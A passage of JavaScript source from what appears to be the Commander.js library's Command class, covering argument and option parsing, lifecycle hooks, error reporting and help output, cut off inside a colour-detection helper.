   * Process this.args using this.registeredArguments and save as this.processedArgs!
   *
   * @private
   */

  _processArguments() {
    const myParseArg = (argument, value, previous) => {
      // Extra processing for nice error message on parsing failure.
      let parsedValue = value;
      if (value !== null && argument.parseArg) {
        const invalidValueMessage = `error: command-argument value '${value}' is invalid for argument '${argument.name()}'.`;
        parsedValue = this._callParseArg(
          argument,
          value,
          previous,
          invalidValueMessage,
        );
      }
      return parsedValue;
    };

    this._checkNumberOfArguments();

    const processedArgs = [];
    this.registeredArguments.forEach((declaredArg, index) => {
      let value = declaredArg.defaultValue;
      if (declaredArg.variadic) {
        // Collect together remaining arguments for passing together as an array.
        if (index < this.args.length) {
          value = this.args.slice(index);
          if (declaredArg.parseArg) {
            value = value.reduce((processed, v) => {
              return myParseArg(declaredArg, v, processed);
            }, declaredArg.defaultValue);
          }
        } else if (value === undefined) {
          value = [];
        }
      } else if (index < this.args.length) {
        value = this.args[index];
        if (declaredArg.parseArg) {
          value = myParseArg(declaredArg, value, declaredArg.defaultValue);
        }
      }
      processedArgs[index] = value;
    });
    this.processedArgs = processedArgs;
  }

  /**
   * Once we have a promise we chain, but call synchronously until then.
   *
   * @param {(Promise|undefined)} promise
   * @param {Function} fn
   * @return {(Promise|undefined)}
   * @private
   */

  _chainOrCall(promise, fn) {
    // thenable
    if (promise?.then && typeof promise.then === 'function') {
      // already have a promise, chain callback
      return promise.then(() => fn());
    }
    // callback might return a promise
    return fn();
  }

  /**
   *
   * @param {(Promise|undefined)} promise
   * @param {string} event
   * @return {(Promise|undefined)}
   * @private
   */

  _chainOrCallHooks(promise, event) {
    let result = promise;
    const hooks = [];
    this._getCommandAndAncestors()
      .reverse()
      .filter((cmd) => cmd._lifeCycleHooks[event] !== undefined)
      .forEach((hookedCommand) => {
        hookedCommand._lifeCycleHooks[event].forEach((callback) => {
          hooks.push({ hookedCommand, callback });
        });
      });
    if (event === 'postAction') {
      hooks.reverse();
    }

    hooks.forEach((hookDetail) => {
      result = this._chainOrCall(result, () => {
        return hookDetail.callback(hookDetail.hookedCommand, this);
      });
    });
    return result;
  }

  /**
   *
   * @param {(Promise|undefined)} promise
   * @param {Command} subCommand
   * @param {string} event
   * @return {(Promise|undefined)}
   * @private
   */

  _chainOrCallSubCommandHook(promise, subCommand, event) {
    let result = promise;
    if (this._lifeCycleHooks[event] !== undefined) {
      this._lifeCycleHooks[event].forEach((hook) => {
        result = this._chainOrCall(result, () => {
          return hook(this, subCommand);
        });
      });
    }
    return result;
  }

  /**
   * Process arguments in context of this command.
   * Returns action result, in case it is a promise.
   *
   * @private
   */

  _parseCommand(operands, unknown) {
    const parsed = this.parseOptions(unknown);
    this._parseOptionsEnv(); // after cli, so parseArg not called on both cli and env
    this._parseOptionsImplied();
    operands = operands.concat(parsed.operands);
    unknown = parsed.unknown;
    this.args = operands.concat(unknown);

    if (operands && this._findCommand(operands[0])) {
      return this._dispatchSubcommand(operands[0], operands.slice(1), unknown);
    }
    if (
      this._getHelpCommand() &&
      operands[0] === this._getHelpCommand().name()
    ) {
      return this._dispatchHelpCommand(operands[1]);
    }
    if (this._defaultCommandName) {
      this._outputHelpIfRequested(unknown); // Run the help for default command from parent rather than passing to default command
      return this._dispatchSubcommand(
        this._defaultCommandName,
        operands,
        unknown,
      );
    }
    if (
      this.commands.length &&
      this.args.length === 0 &&
      !this._actionHandler &&
      !this._defaultCommandName
    ) {
      // probably missing subcommand and no handler, user needs help (and exit)
      this.help({ error: true });
    }

    this._outputHelpIfRequested(parsed.unknown);
    this._checkForMissingMandatoryOptions();
    this._checkForConflictingOptions();

    // We do not always call this check to avoid masking a "better" error, like unknown command.
    const checkForUnknownOptions = () => {
      if (parsed.unknown.length > 0) {
        this.unknownOption(parsed.unknown[0]);
      }
    };

    const commandEvent = `command:${this.name()}`;
    if (this._actionHandler) {
      checkForUnknownOptions();
      this._processArguments();

      let promiseChain;
      promiseChain = this._chainOrCallHooks(promiseChain, 'preAction');
      promiseChain = this._chainOrCall(promiseChain, () =>
        this._actionHandler(this.processedArgs),
      );
      if (this.parent) {
        promiseChain = this._chainOrCall(promiseChain, () => {
          this.parent.emit(commandEvent, operands, unknown); // legacy
        });
      }
      promiseChain = this._chainOrCallHooks(promiseChain, 'postAction');
      return promiseChain;
    }
    if (this.parent?.listenerCount(commandEvent)) {
      checkForUnknownOptions();
      this._processArguments();
      this.parent.emit(commandEvent, operands, unknown); // legacy
    } else if (operands.length) {
      if (this._findCommand('*')) {
        // legacy default command
        return this._dispatchSubcommand('*', operands, unknown);
      }
      if (this.listenerCount('command:*')) {
        // skip option check, emit event for possible misspelling suggestion
        this.emit('command:*', operands, unknown);
      } else if (this.commands.length) {
        this.unknownCommand();
      } else {
        checkForUnknownOptions();
        this._processArguments();
      }
    } else if (this.commands.length) {
      checkForUnknownOptions();
      // This command has subcommands and nothing hooked up at this level, so display help (and exit).
      this.help({ error: true });
    } else {
      checkForUnknownOptions();
      this._processArguments();
      // fall through for caller to handle after calling .parse()
    }
  }

  /**
   * Find matching command.
   *
   * @private
   * @return {Command | undefined}
   */
  _findCommand(name) {
    if (!name) return undefined;
    return this.commands.find(
      (cmd) => cmd._name === name || cmd._aliases.includes(name),
    );
  }

  /**
   * Return an option matching `arg` if any.
   *
   * @param {string} arg
   * @return {Option}
   * @package
   */

  _findOption(arg) {
    return this.options.find((option) => option.is(arg));
  }

  /**
   * Display an error message if a mandatory option does not have a value.
   * Called after checking for help flags in leaf subcommand.
   *
   * @private
   */

  _checkForMissingMandatoryOptions() {
    // Walk up hierarchy so can call in subcommand after checking for displaying help.
    this._getCommandAndAncestors().forEach((cmd) => {
      cmd.options.forEach((anOption) => {
        if (
          anOption.mandatory &&
          cmd.getOptionValue(anOption.attributeName()) === undefined
        ) {
          cmd.missingMandatoryOptionValue(anOption);
        }
      });
    });
  }

  /**
   * Display an error message if conflicting options are used together in this.
   *
   * @private
   */
  _checkForConflictingLocalOptions() {
    const definedNonDefaultOptions = this.options.filter((option) => {
      const optionKey = option.attributeName();
      if (this.getOptionValue(optionKey) === undefined) {
        return false;
      }
      return this.getOptionValueSource(optionKey) !== 'default';
    });

    const optionsWithConflicting = definedNonDefaultOptions.filter(
      (option) => option.conflictsWith.length > 0,
    );

    optionsWithConflicting.forEach((option) => {
      const conflictingAndDefined = definedNonDefaultOptions.find((defined) =>
        option.conflictsWith.includes(defined.attributeName()),
      );
      if (conflictingAndDefined) {
        this._conflictingOption(option, conflictingAndDefined);
      }
    });
  }

  /**
   * Display an error message if conflicting options are used together.
   * Called after checking for help flags in leaf subcommand.
   *
   * @private
   */
  _checkForConflictingOptions() {
    // Walk up hierarchy so can call in subcommand after checking for displaying help.
    this._getCommandAndAncestors().forEach((cmd) => {
      cmd._checkForConflictingLocalOptions();
    });
  }

  /**
   * Parse options from `argv` removing known options,
   * and return argv split into operands and unknown arguments.
   *
   * Side effects: modifies command by storing options. Does not reset state if called again.
   *
   * Examples:
   *
   *     argv => operands, unknown
   *     --known kkk op => [op], []
   *     op --known kkk => [op], []
   *     sub --unknown uuu op => [sub], [--unknown uuu op]
   *     sub -- --unknown uuu op => [sub --unknown uuu op], []
   *
   * @param {string[]} args
   * @return {{operands: string[], unknown: string[]}}
   */

  parseOptions(args) {
    const operands = []; // operands, not options or values
    const unknown = []; // first unknown option and remaining unknown args
    let dest = operands;

    function maybeOption(arg) {
      return arg.length > 1 && arg[0] === '-';
    }

    const negativeNumberArg = (arg) => {
      // return false if not a negative number
      if (!/^-(\d+|\d*\.\d+)(e[+-]?\d+)?$/.test(arg)) return false;
      // negative number is ok unless digit used as an option in command hierarchy
      return !this._getCommandAndAncestors().some((cmd) =>
        cmd.options
          .map((opt) => opt.short)
          .some((short) => /^-\d$/.test(short)),
      );
    };

    // parse options
    let activeVariadicOption = null;
    let activeGroup = null; // working through group of short options, like -abc
    let i = 0;
    while (i < args.length || activeGroup) {
      const arg = activeGroup ?? args[i++];
      activeGroup = null;

      // literal
      if (arg === '--') {
        if (dest === unknown) dest.push(arg);
        dest.push(...args.slice(i));
        break;
      }

      if (
        activeVariadicOption &&
        (!maybeOption(arg) || negativeNumberArg(arg))
      ) {
        this.emit(`option:${activeVariadicOption.name()}`, arg);
        continue;
      }
      activeVariadicOption = null;

      if (maybeOption(arg)) {
        const option = this._findOption(arg);
        // recognised option, call listener to assign value with possible custom processing
        if (option) {
          if (option.required) {
            const value = args[i++];
            if (value === undefined) this.optionMissingArgument(option);
            this.emit(`option:${option.name()}`, value);
          } else if (option.optional) {
            let value = null;
            // historical behaviour is optional value is following arg unless an option
            if (
              i < args.length &&
              (!maybeOption(args[i]) || negativeNumberArg(args[i]))
            ) {
              value = args[i++];
            }
            this.emit(`option:${option.name()}`, value);
          } else {
            // boolean flag
            this.emit(`option:${option.name()}`);
          }
          activeVariadicOption = option.variadic ? option : null;
          continue;
        }
      }

      // Look for combo options following single dash, eat first one if known.
      if (arg.length > 2 && arg[0] === '-' && arg[1] !== '-') {
        const option = this._findOption(`-${arg[1]}`);
        if (option) {
          if (
            option.required ||
            (option.optional && this._combineFlagAndOptionalValue)
          ) {
            // option with value following in same argument
            this.emit(`option:${option.name()}`, arg.slice(2));
          } else {
            // boolean option
            this.emit(`option:${option.name()}`);
            // remove the processed option and keep processing group
            activeGroup = `-${arg.slice(2)}`;
          }
          continue;
        }
      }

      // Look for known long flag with value, like --foo=bar
      if (/^--[^=]+=/.test(arg)) {
        const index = arg.indexOf('=');
        const option = this._findOption(arg.slice(0, index));
        if (option && (option.required || option.optional)) {
          this.emit(`option:${option.name()}`, arg.slice(index + 1));
          continue;
        }
      }

      // Not a recognised option by this command.
      // Might be a command-argument, or subcommand option, or unknown option, or help command or option.

      // An unknown option means further arguments also classified as unknown so can be reprocessed by subcommands.
      // A negative number in a leaf command is not an unknown option.
      if (
        dest === operands &&
        maybeOption(arg) &&
        !(this.commands.length === 0 && negativeNumberArg(arg))
      ) {
        dest = unknown;
      }

      // If using positionalOptions, stop processing our options at subcommand.
      if (
        (this._enablePositionalOptions || this._passThroughOptions) &&
        operands.length === 0 &&
        unknown.length === 0
      ) {
        if (this._findCommand(arg)) {
          operands.push(arg);
          unknown.push(...args.slice(i));
          break;
        } else if (
          this._getHelpCommand() &&
          arg === this._getHelpCommand().name()
        ) {
          operands.push(arg, ...args.slice(i));
          break;
        } else if (this._defaultCommandName) {
          unknown.push(arg, ...args.slice(i));
          break;
        }
      }

      // If using passThroughOptions, stop processing options at first command-argument.
      if (this._passThroughOptions) {
        dest.push(arg, ...args.slice(i));
        break;
      }

      // add arg
      dest.push(arg);
    }

    return { operands, unknown };
  }

  /**
   * Return an object containing local option values as key-value pairs.
   *
   * @return {object}
   */
  opts() {
    if (this._storeOptionsAsProperties) {
      // Preserve original behaviour so backwards compatible when still using properties
      const result = {};
      const len = this.options.length;

      for (let i = 0; i < len; i++) {
        const key = this.options[i].attributeName();
        result[key] =
          key === this._versionOptionName ? this._version : this[key];
      }
      return result;
    }

    return this._optionValues;
  }

  /**
   * Return an object containing merged local and global option values as key-value pairs.
   *
   * @return {object}
   */
  optsWithGlobals() {
    // globals overwrite locals
    return this._getCommandAndAncestors().reduce(
      (combinedOptions, cmd) => Object.assign(combinedOptions, cmd.opts()),
      {},
    );
  }

  /**
   * Display error message and exit (or call exitOverride).
   *
   * @param {string} message
   * @param {object} [errorOptions]
   * @param {string} [errorOptions.code] - an id string representing the error
   * @param {number} [errorOptions.exitCode] - used with process.exit
   */
  error(message, errorOptions) {
    // output handling
    this._outputConfiguration.outputError(
      `${message}\n`,
      this._outputConfiguration.writeErr,
    );
    if (typeof this._showHelpAfterError === 'string') {
      this._outputConfiguration.writeErr(`${this._showHelpAfterError}\n`);
    } else if (this._showHelpAfterError) {
      this._outputConfiguration.writeErr('\n');
      this.outputHelp({ error: true });
    }

    // exit handling
    const config = errorOptions || {};
    const exitCode = config.exitCode || 1;
    const code = config.code || 'commander.error';
    this._exit(exitCode, code, message);
  }

  /**
   * Apply any option related environment variables, if option does
   * not have a value from cli or client code.
   *
   * @private
   */
  _parseOptionsEnv() {
    this.options.forEach((option) => {
      if (option.envVar && option.envVar in process.env) {
        const optionKey = option.attributeName();
        // Priority check. Do not overwrite cli or options from unknown source (client-code).
        if (
          this.getOptionValue(optionKey) === undefined ||
          ['default', 'config', 'env'].includes(
            this.getOptionValueSource(optionKey),
          )
        ) {
          if (option.required || option.optional) {
            // option can take a value
            // keep very simple, optional always takes value
            this.emit(`optionEnv:${option.name()}`, process.env[option.envVar]);
          } else {
            // boolean
            // keep very simple, only care that envVar defined and not the value
            this.emit(`optionEnv:${option.name()}`);
          }
        }
      }
    });
  }

  /**
   * Apply any implied option values, if option is undefined or default value.
   *
   * @private
   */
  _parseOptionsImplied() {
    const dualHelper = new DualOptions(this.options);
    const hasCustomOptionValue = (optionKey) => {
      return (
        this.getOptionValue(optionKey) !== undefined &&
        !['default', 'implied'].includes(this.getOptionValueSource(optionKey))
      );
    };
    this.options
      .filter(
        (option) =>
          option.implied !== undefined &&
          hasCustomOptionValue(option.attributeName()) &&
          dualHelper.valueFromOption(
            this.getOptionValue(option.attributeName()),
            option,
          ),
      )
      .forEach((option) => {
        Object.keys(option.implied)
          .filter((impliedKey) => !hasCustomOptionValue(impliedKey))
          .forEach((impliedKey) => {
            this.setOptionValueWithSource(
              impliedKey,
              option.implied[impliedKey],
              'implied',
            );
          });
      });
  }

  /**
   * Argument `name` is missing.
   *
   * @param {string} name
   * @private
   */

  missingArgument(name) {
    const message = `error: missing required argument '${name}'`;
    this.error(message, { code: 'commander.missingArgument' });
  }

  /**
   * `Option` is missing an argument.
   *
   * @param {Option} option
   * @private
   */

  optionMissingArgument(option) {
    const message = `error: option '${option.flags}' argument missing`;
    this.error(message, { code: 'commander.optionMissingArgument' });
  }

  /**
   * `Option` does not have a value, and is a mandatory option.
   *
   * @param {Option} option
   * @private
   */

  missingMandatoryOptionValue(option) {
    const message = `error: required option '${option.flags}' not specified`;
    this.error(message, { code: 'commander.missingMandatoryOptionValue' });
  }

  /**
   * `Option` conflicts with another option.
   *
   * @param {Option} option
   * @param {Option} conflictingOption
   * @private
   */
  _conflictingOption(option, conflictingOption) {
    // The calling code does not know whether a negated option is the source of the
    // value, so do some work to take an educated guess.
    const findBestOptionFromValue = (option) => {
      const optionKey = option.attributeName();
      const optionValue = this.getOptionValue(optionKey);
      const negativeOption = this.options.find(
        (target) => target.negate && optionKey === target.attributeName(),
      );
      const positiveOption = this.options.find(
        (target) => !target.negate && optionKey === target.attributeName(),
      );
      if (
        negativeOption &&
        ((negativeOption.presetArg === undefined && optionValue === false) ||
          (negativeOption.presetArg !== undefined &&
            optionValue === negativeOption.presetArg))
      ) {
        return negativeOption;
      }
      return positiveOption || option;
    };

    const getErrorMessage = (option) => {
      const bestOption = findBestOptionFromValue(option);
      const optionKey = bestOption.attributeName();
      const source = this.getOptionValueSource(optionKey);
      if (source === 'env') {
        return `environment variable '${bestOption.envVar}'`;
      }
      return `option '${bestOption.flags}'`;
    };

    const message = `error: ${getErrorMessage(option)} cannot be used with ${getErrorMessage(conflictingOption)}`;
    this.error(message, { code: 'commander.conflictingOption' });
  }

  /**
   * Unknown option `flag`.
   *
   * @param {string} flag
   * @private
   */

  unknownOption(flag) {
    if (this._allowUnknownOption) return;
    let suggestion = '';

    if (flag.startsWith('--') && this._showSuggestionAfterError) {
      // Looping to pick up the global options too
      let candidateFlags = [];
      // eslint-disable-next-line @typescript-eslint/no-this-alias
      let command = this;
      do {
        const moreFlags = command
          .createHelp()
          .visibleOptions(command)
          .filter((option) => option.long)
          .map((option) => option.long);
        candidateFlags = candidateFlags.concat(moreFlags);
        command = command.parent;
      } while (command && !command._enablePositionalOptions);
      suggestion = suggestSimilar(flag, candidateFlags);
    }

    const message = `error: unknown option '${flag}'${suggestion}`;
    this.error(message, { code: 'commander.unknownOption' });
  }

  /**
   * Excess arguments, more than expected.
   *
   * @param {string[]} receivedArgs
   * @private
   */

  _excessArguments(receivedArgs) {
    if (this._allowExcessArguments) return;

    const expected = this.registeredArguments.length;
    const s = expected === 1 ? '' : 's';
    const forSubcommand = this.parent ? ` for '${this.name()}'` : '';
    const message = `error: too many arguments${forSubcommand}. Expected ${expected} argument${s} but got ${receivedArgs.length}.`;
    this.error(message, { code: 'commander.excessArguments' });
  }

  /**
   * Unknown command.
   *
   * @private
   */

  unknownCommand() {
    const unknownName = this.args[0];
    let suggestion = '';

    if (this._showSuggestionAfterError) {
      const candidateNames = [];
      this.createHelp()
        .visibleCommands(this)
        .forEach((command) => {
          candidateNames.push(command.name());
          // just visible alias
          if (command.alias()) candidateNames.push(command.alias());
        });
      suggestion = suggestSimilar(unknownName, candidateNames);
    }

    const message = `error: unknown command '${unknownName}'${suggestion}`;
    this.error(message, { code: 'commander.unknownCommand' });
  }

  /**
   * Get or set the program version.
   *
   * This method auto-registers the "-V, --version" option which will print the version number.
   *
   * You can optionally supply the flags and description to override the defaults.
   *
   * @param {string} [str]
   * @param {string} [flags]
   * @param {string} [description]
   * @return {(this | string | undefined)} `this` command for chaining, or version string if no arguments
   */

  version(str, flags, description) {
    if (str === undefined) return this._version;
    this._version = str;
    flags = flags || '-V, --version';
    description = description || 'output the version number';
    const versionOption = this.createOption(flags, description);
    this._versionOptionName = versionOption.attributeName();
    this._registerOption(versionOption);

    this.on('option:' + versionOption.name(), () => {
      this._outputConfiguration.writeOut(`${str}\n`);
      this._exit(0, 'commander.version', str);
    });
    return this;
  }

  /**
   * Set the description.
   *
   * @param {string} [str]
   * @param {object} [argsDescription]
   * @return {(string|Command)}
   */
  description(str, argsDescription) {
    if (str === undefined && argsDescription === undefined)
      return this._description;
    this._description = str;
    if (argsDescription) {
      this._argsDescription = argsDescription;
    }
    return this;
  }

  /**
   * Set the summary. Used when listed as subcommand of parent.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */
  summary(str) {
    if (str === undefined) return this._summary;
    this._summary = str;
    return this;
  }

  /**
   * Set an alias for the command.
   *
   * You may call more than once to add multiple aliases. Only the first alias is shown in the auto-generated help.
   *
   * @param {string} [alias]
   * @return {(string|Command)}
   */

  alias(alias) {
    if (alias === undefined) return this._aliases[0]; // just return first, for backwards compatibility

    /** @type {Command} */
    // eslint-disable-next-line @typescript-eslint/no-this-alias
    let command = this;
    if (
      this.commands.length !== 0 &&
      this.commands[this.commands.length - 1]._executableHandler
    ) {
      // assume adding alias for last added executable subcommand, rather than this
      command = this.commands[this.commands.length - 1];
    }

    if (alias === command._name)
      throw new Error("Command alias can't be the same as its name");
    const matchingCommand = this.parent?._findCommand(alias);
    if (matchingCommand) {
      // c.f. _registerCommand
      const existingCmd = [matchingCommand.name()]
        .concat(matchingCommand.aliases())
        .join('|');
      throw new Error(
        `cannot add alias '${alias}' to command '${this.name()}' as already have command '${existingCmd}'`,
      );
    }

    command._aliases.push(alias);
    return this;
  }

  /**
   * Set aliases for the command.
   *
   * Only the first alias is shown in the auto-generated help.
   *
   * @param {string[]} [aliases]
   * @return {(string[]|Command)}
   */

  aliases(aliases) {
    // Getter for the array of aliases is the main reason for having aliases() in addition to alias().
    if (aliases === undefined) return this._aliases;

    aliases.forEach((alias) => this.alias(alias));
    return this;
  }

  /**
   * Set / get the command usage `str`.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */

  usage(str) {
    if (str === undefined) {
      if (this._usage) return this._usage;

      const args = this.registeredArguments.map((arg) => {
        return humanReadableArgName(arg);
      });
      return []
        .concat(
          this.options.length || this._helpOption !== null ? '[options]' : [],
          this.commands.length ? '[command]' : [],
          this.registeredArguments.length ? args : [],
        )
        .join(' ');
    }

    this._usage = str;
    return this;
  }

  /**
   * Get or set the name of the command.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */

  name(str) {
    if (str === undefined) return this._name;
    this._name = str;
    return this;
  }

  /**
   * Set/get the help group heading for this subcommand in parent command's help.
   *
   * @param {string} [heading]
   * @return {Command | string}
   */

  helpGroup(heading) {
    if (heading === undefined) return this._helpGroupHeading ?? '';
    this._helpGroupHeading = heading;
    return this;
  }

  /**
   * Set/get the default help group heading for subcommands added to this command.
   * (This does not override a group set directly on the subcommand using .helpGroup().)
   *
   * @example
   * program.commandsGroup('Development Commands:);
   * program.command('watch')...
   * program.command('lint')...
   * ...
   *
   * @param {string} [heading]
   * @returns {Command | string}
   */
  commandsGroup(heading) {
    if (heading === undefined) return this._defaultCommandGroup ?? '';
    this._defaultCommandGroup = heading;
    return this;
  }

  /**
   * Set/get the default help group heading for options added to this command.
   * (This does not override a group set directly on the option using .helpGroup().)
   *
   * @example
   * program
   *   .optionsGroup('Development Options:')
   *   .option('-d, --debug', 'output extra debugging')
   *   .option('-p, --profile', 'output profiling information')
   *
   * @param {string} [heading]
   * @returns {Command | string}
   */
  optionsGroup(heading) {
    if (heading === undefined) return this._defaultOptionGroup ?? '';
    this._defaultOptionGroup = heading;
    return this;
  }

  /**
   * @param {Option} option
   * @private
   */
  _initOptionGroup(option) {
    if (this._defaultOptionGroup && !option.helpGroupHeading)
      option.helpGroup(this._defaultOptionGroup);
  }

  /**
   * @param {Command} cmd
   * @private
   */
  _initCommandGroup(cmd) {
    if (this._defaultCommandGroup && !cmd.helpGroup())
      cmd.helpGroup(this._defaultCommandGroup);
  }

  /**
   * Set the name of the command from script filename, such as process.argv[1],
   * or require.main.filename, or __filename.
   *
   * (Used internally and public although not documented in README.)
   *
   * @example
   * program.nameFromFilename(require.main.filename);
   *
   * @param {string} filename
   * @return {Command}
   */

  nameFromFilename(filename) {
    this._name = path.basename(filename, path.extname(filename));

    return this;
  }

  /**
   * Get or set the directory for searching for executable subcommands of this command.
   *
   * @example
   * program.executableDir(__dirname);
   * // or
   * program.executableDir('subcommands');
   *
   * @param {string} [path]
   * @return {(string|null|Command)}
   */

  executableDir(path) {
    if (path === undefined) return this._executableDir;
    this._executableDir = path;
    return this;
  }

  /**
   * Return program help documentation.
   *
   * @param {{ error: boolean }} [contextOptions] - pass {error:true} to wrap for stderr instead of stdout
   * @return {string}
   */

  helpInformation(contextOptions) {
    const helper = this.createHelp();
    const context = this._getOutputContext(contextOptions);
    helper.prepareContext({
      error: context.error,
      helpWidth: context.helpWidth,
      outputHasColors: context.hasColors,
    });
    const text = helper.formatHelp(this, helper);
    if (context.hasColors) return text;
    return this._outputConfiguration.stripColor(text);
  }

  /**
   * @typedef HelpContext
   * @type {object}
   * @property {boolean} error
   * @property {number} helpWidth
   * @property {boolean} hasColors
   * @property {function} write - includes stripColor if needed
   *
   * @returns {HelpContext}
   * @private
   */

  _getOutputContext(contextOptions) {
    contextOptions = contextOptions || {};
    const error = !!contextOptions.error;
    let baseWrite;
    let hasColors;
    let helpWidth;
    if (error) {
      baseWrite = (str) => this._outputConfiguration.writeErr(str);
      hasColors = this._outputConfiguration.getErrHasColors();
      helpWidth = this._outputConfiguration.getErrHelpWidth();
    } else {
      baseWrite = (str) => this._outputConfiguration.writeOut(str);
      hasColors = this._outputConfiguration.getOutHasColors();
      helpWidth = this._outputConfiguration.getOutHelpWidth();
    }
    const write = (str) => {
      if (!hasColors) str = this._outputConfiguration.stripColor(str);
      return baseWrite(str);
    };
    return { error, write, hasColors, helpWidth };
  }

  /**
   * Output help information for this command.
   *
   * Outputs built-in help, and custom text added using `.addHelpText()`.
   *
   * @param {{ error: boolean } | Function} [contextOptions] - pass {error:true} to write to stderr instead of stdout
   */

  outputHelp(contextOptions) {
    let deprecatedCallback;
    if (typeof contextOptions === 'function') {
      deprecatedCallback = contextOptions;
      contextOptions = undefined;
    }

    const outputContext = this._getOutputContext(contextOptions);
    /** @type {HelpTextEventContext} */
    const eventContext = {
      error: outputContext.error,
      write: outputContext.write,
      command: this,
    };

    this._getCommandAndAncestors()
      .reverse()
      .forEach((command) => command.emit('beforeAllHelp', eventContext));
    this.emit('beforeHelp', eventContext);

    let helpInformation = this.helpInformation({ error: outputContext.error });
    if (deprecatedCallback) {
      helpInformation = deprecatedCallback(helpInformation);
      if (
        typeof helpInformation !== 'string' &&
        !Buffer.isBuffer(helpInformation)
      ) {
        throw new Error('outputHelp callback must return a string or a Buffer');
      }
    }
    outputContext.write(helpInformation);

    if (this._getHelpOption()?.long) {
      this.emit(this._getHelpOption().long); // deprecated
    }
    this.emit('afterHelp', eventContext);
    this._getCommandAndAncestors().forEach((command) =>
      command.emit('afterAllHelp', eventContext),
    );
  }

  /**
   * You can pass in flags and a description to customise the built-in help option.
   * Pass in false to disable the built-in help option.
   *
   * @example
   * program.helpOption('-?, --help' 'show help'); // customise
   * program.helpOption(false); // disable
   *
   * @param {(string | boolean)} flags
   * @param {string} [description]
   * @return {Command} `this` command for chaining
   */

  helpOption(flags, description) {
    // Support enabling/disabling built-in help option.
    if (typeof flags === 'boolean') {
      if (flags) {
        if (this._helpOption === null) this._helpOption = undefined; // reenable
        if (this._defaultOptionGroup) {
          // make the option to store the group
          this._initOptionGroup(this._getHelpOption());
        }
      } else {
        this._helpOption = null; // disable
      }
      return this;
    }

    // Customise flags and description.
    this._helpOption = this.createOption(
      flags ?? '-h, --help',
      description ?? 'display help for command',
    );
    // init group unless lazy create
    if (flags || description) this._initOptionGroup(this._helpOption);

    return this;
  }

  /**
   * Lazy create help option.
   * Returns null if has been disabled with .helpOption(false).
   *
   * @returns {(Option | null)} the help option
   * @package
   */
  _getHelpOption() {
    // Lazy create help option on demand.
    if (this._helpOption === undefined) {
      this.helpOption(undefined, undefined);
    }
    return this._helpOption;
  }

  /**
   * Supply your own option to use for the built-in help option.
   * This is an alternative to using helpOption() to customise the flags and description etc.
   *
   * @param {Option} option
   * @return {Command} `this` command for chaining
   */
  addHelpOption(option) {
    this._helpOption = option;
    this._initOptionGroup(option);
    return this;
  }

  /**
   * Output help information and exit.
   *
   * Outputs built-in help, and custom text added using `.addHelpText()`.
   *
   * @param {{ error: boolean }} [contextOptions] - pass {error:true} to write to stderr instead of stdout
   */

  help(contextOptions) {
    this.outputHelp(contextOptions);
    let exitCode = Number(process.exitCode ?? 0); // process.exitCode does allow a string or an integer, but we prefer just a number
    if (
      exitCode === 0 &&
      contextOptions &&
      typeof contextOptions !== 'function' &&
      contextOptions.error
    ) {
      exitCode = 1;
    }
    // message: do not have all displayed text available so only passing placeholder.
    this._exit(exitCode, 'commander.help', '(outputHelp)');
  }

  /**
   * // Do a little typing to coordinate emit and listener for the help text events.
   * @typedef HelpTextEventContext
   * @type {object}
   * @property {boolean} error
   * @property {Command} command
   * @property {function} write
   */

  /**
   * Add additional text to be displayed with the built-in help.
   *
   * Position is 'before' or 'after' to affect just this command,
   * and 'beforeAll' or 'afterAll' to affect this command and all its subcommands.
   *
   * @param {string} position - before or after built-in help
   * @param {(string | Function)} text - string to add, or a function returning a string
   * @return {Command} `this` command for chaining
   */

  addHelpText(position, text) {
    const allowedValues = ['beforeAll', 'before', 'after', 'afterAll'];
    if (!allowedValues.includes(position)) {
      throw new Error(`Unexpected value for position to addHelpText.
Expecting one of '${allowedValues.join("', '")}'`);
    }

    const helpEvent = `${position}Help`;
    this.on(helpEvent, (/** @type {HelpTextEventContext} */ context) => {
      let helpStr;
      if (typeof text === 'function') {
        helpStr = text({ error: context.error, command: context.command });
      } else {
        helpStr = text;
      }
      // Ignore falsy value when nothing to output.
      if (helpStr) {
        context.write(`${helpStr}\n`);
      }
    });
    return this;
  }

  /**
   * Output help information if help flags specified
   *
   * @param {Array} args - array of options to search for help flags
   * @private
   */

  _outputHelpIfRequested(args) {
    const helpOption = this._getHelpOption();
    const helpRequested = helpOption && args.find((arg) => helpOption.is(arg));
    if (helpRequested) {
      this.outputHelp();
      // (Do not have all displayed text available so only passing placeholder.)
      this._exit(0, 'commander.helpDisplayed', '(outputHelp)');
    }
  }
}

/**
 * Scan arguments and increment port number for inspect calls (to avoid conflicts when spawning new command).
 *
 * @param {string[]} args - array of arguments from node.execArgv
 * @returns {string[]}
 * @private
 */

function incrementNodeInspectorPort(args) {
  // Testing for these options:
  //  --inspect[=[host:]port]
  //  --inspect-brk[=[host:]port]
  //  --inspect-port=[host:]port
  return args.map((arg) => {
    if (!arg.startsWith('--inspect')) {
      return arg;
    }
    let debugOption;
    let debugHost = '127.0.0.1';
    let debugPort = '9229';
    let match;
    if ((match = arg.match(/^(--inspect(-brk)?)$/)) !== null) {
      // e.g. --inspect
      debugOption = match[1];
    } else if (
      (match = arg.match(/^(--inspect(-brk|-port)?)=([^:]+)$/)) !== null
    ) {
      debugOption = match[1];
      if (/^\d+$/.test(match[3])) {
        // e.g. --inspect=1234
        debugPort = match[3];
      } else {
        // e.g. --inspect=localhost
        debugHost = match[3];
      }
    } else if (
      (match = arg.match(/^(--inspect(-brk|-port)?)=([^:]+):(\d+)$/)) !== null
    ) {
      // e.g. --inspect=localhost:1234
      debugOption = match[1];
      debugHost = match[3];
      debugPort = match[4];
    }

    if (debugOption && debugPort !== '0') {
      return `${debugOption}=${debugHost}:${parseInt(debugPort) + 1}`;
    }
    return arg;
  });
}

/**
 * @returns {boolean | undefined}
 * @package
 */
function useColor() {
  // Test for common conventions.
  // NB: the observed behaviour is in combination with how author adds color! For example:
  //   - we do not test NODE_DISABLE_COLORS, but util:styletext does
  //   - we do test NO_COLOR, but Chalk does not
  //
  // References:
  // https://no-color.org
  // https://bixense.com/clicolors/
  // https://github.com/nodejs/node/blob/0a00217a5f67ef4a22384cfc80eb6dd9a917fdc1/lib/internal/tty.js#L109
  // https://github.com/chalk/supports-color/blob/c214314a14bcb174b12b3014b2b0a8de375029ae/index.js#L33
  // (https://force-color.org recent web page from 2023, does not match major javascript implementations)

  if (
    process.env.NO_COLOR ||
    process.env.FORCE_COLOR === '0' ||
    process.env.FORCE_COLOR === 'false'
  )
    return false;
